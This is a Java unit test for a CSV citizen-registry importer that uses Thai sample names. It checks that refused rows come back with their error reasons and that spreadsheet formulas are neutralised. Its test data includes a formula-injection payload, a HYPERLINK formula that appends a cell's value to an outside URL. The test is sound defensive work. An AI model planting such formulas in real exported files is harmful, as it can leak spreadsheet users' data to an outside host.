package org.apom.registry.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.StringWriter;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.apom.core.api.LocalizedText;
import org.apom.registry.api.RowError;
import org.junit.jupiter.api.Test;

class RegisterCsvRejectedTest {

    @Test
    void aRefusedRowComesBackGuardedAndWithItsReasonsInTheirOwnColumn() throws Exception {
        String sent = "national_id,title,first_name,last_name,birth_date,gender,subdistrict_code,address\r\n"
                + "1101700203451,นาย,สมชาย,ใจดี,1980-03-15,MALE,500101,=HYPERLINK(\"https://x/\"&A2)\r\n"
                + "1101700203452,นาง,สมหญิง\r\n";
        RegisterCsv csv = RegisterCsv.read(sent);
        StringWriter out = new StringWriter();
        int rows = RegisterCsv.writeRejected(csv.keep(line -> true), Map.of(2, List.of(new RowError(2, "address",
                "format", LocalizedText.of("No formulas.", "ห้ามสูตร"))), 3, List.of(new RowError(3, null,
                "too-few", LocalizedText.of("Too few fields.", "ช่องไม่ครบ")))), Locale.ENGLISH, out);
        assertEquals(2, rows);
        assertEquals("\uFEFFnational_id,title,first_name,last_name,birth_date,gender,subdistrict_code,address,"
                + "import_errors\r\n"
                + "1101700203451,นาย,สมชาย,ใจดี,1980-03-15,MALE,500101,\"'=HYPERLINK(\"\"https://x/\"\"&A2)\","
                + "line 2; address: No formulas.\r\n"
                + "1101700203452,นาง,สมหญิง,,,,,,line 3; Too few fields.\r\n", out.toString(),
                "a formula sent runs in nobody's spreadsheet; a short row's reasons stay under import_errors");
        // and the file goes back as it came: the guard undone, the reasons ignored
        RegisterCsv back = RegisterCsv.read(out.toString().substring(1));
        assertEquals(List.of(), back.unknownColumns());
        StringBuilder address = new StringBuilder();
        back.forEachRow(r -> {
            if (r.index() == 0) {
                address.append(r.input().address());
            }
        });
        assertEquals("=HYPERLINK(\"https://x/\"&A2)", address.toString());
    }
}
